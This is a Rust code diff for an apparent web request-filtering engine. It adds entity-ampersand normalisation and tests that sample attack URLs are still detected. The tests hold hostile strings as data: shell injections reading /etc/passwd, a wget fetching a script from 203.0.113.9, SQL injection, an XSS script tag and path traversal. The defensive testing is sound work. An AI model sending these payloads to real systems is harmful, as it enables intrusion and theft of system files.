@@ -55,6 +55,8 @@ fn looks(input: Input, text: &str) -> Vec<(Part, View, String)> {
         part(Part::Text, text, false);
         return found;
     }
+    let query = text.find('?').map_or(text.len(), |at| at + 1);
+    let text = &*normalise::plain_ampersands(text, query);
     let (path, query) = text.split_once('?').map_or((text, None), |(path, query)| (path, Some(query)));
     part(Part::Target, text, false);
     part(Part::Path, path, false);
@@ -102,6 +104,69 @@ fn every_case_of_every_pattern_is_judged_as_the_obvious_way_does() {
             let text = &case.text;
             assert_eq!(by_engine(&engine, text), obvious(&packs, input, text), "{input:?} {text}");
         }
+    }
+}
+
+/// Ways in which the ampersand between two parameters is written by mistake.
+const ENTITIES: [&str; 7] = ["&amp;", "&AMP;", "&amp;amp;", "&amp%3B", "&amp%3Bamp%3B", "&#38;", "&#x26;"];
+
+#[test]
+fn a_parameter_ends_at_an_entity_as_at_an_ampersand() {
+    let packs = packs(&own_packs(PARANOIA_MAX));
+    let (engine, referers) = (Engine::new(packs.clone(), Input::Target), Engine::new(packs, Input::Address));
+    for benign in [
+        "/x?a=1&id=33",
+        "/x?a=1&ls=1&ps=2",
+        "/x?id=1&env=test&ver=2&sh=0",
+        "/x?a=1&dir=asc&host=b&cat=5",
+        "/x?page=2&w=100&h=100&id",
+        "/x?a=1&set=2&type=3&test=4&sort=5&",
+        "/x?a=&id=",
+    ] {
+        for entity in ENTITIES {
+            let text = benign.replace('&', entity);
+            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
+            let [referer, plain] = [&text, benign].map(|target| format!("https://www.example.org{target}"));
+            assert_eq!(by_engine(&referers, &referer), by_engine(&referers, &plain), "{referer}");
+            // The first parameter, too: who reads `amp;id` as a name sends it in any order.
+            let text = text.replace('?', &format!("?{}", &entity[1..]));
+            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
+        }
+    }
+}
+
+#[test]
+fn an_attack_behind_an_entity_is_found_as_behind_an_ampersand() {
+    let packs = packs(&own_packs(PARANOIA_MAX));
+    let engine = Engine::new(packs.clone(), Input::Target);
+    for attack in [
+        "/x?a=1&cmd=;cat%20/etc/passwd",
+        "/x?a=1&cmd=%3Bid",
+        "/x?a=1&q=%27%20union%20select%201,2--%20",
+        "/x?a=1&q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/x?a=1&f=../../../../etc/passwd",
+        "/x?a=..&whoami",
+        "/x?a=1&wget%20http://203.0.113.9/x.sh",
+        "/x?a=1&;cat%20/etc/passwd",
+        "/x?a=1&cat%20/etc/passwd=1",
+        "/x?a=1&x;id",
+        "/x?a=1&b=2&(id)=3",
+    ] {
+        let wanted = by_engine(&engine, attack);
+        for entity in ENTITIES {
+            let text = attack.replace('&', entity);
+            let found = by_engine(&engine, &text);
+            assert!(found.is_superset(&wanted) && !found.is_empty(), "{text}: {found:?}, not {wanted:?}");
+        }
+    }
+    // A shell that gets the value whole reads the end of the entity as the end of a command.
+    for attack in [
+        "/x?a=1%26amp;id",
+        "/x?a=1&amp;whoami",
+        "/x?a=1%26amp%3Bcat%20/etc/passwd",
+        "/x?a=1&amp;wget%20http://203.0.113.9/x.sh",
+    ] {
+        assert!(!by_engine(&engine, attack).is_empty(), "{attack}");
     }
 }
 
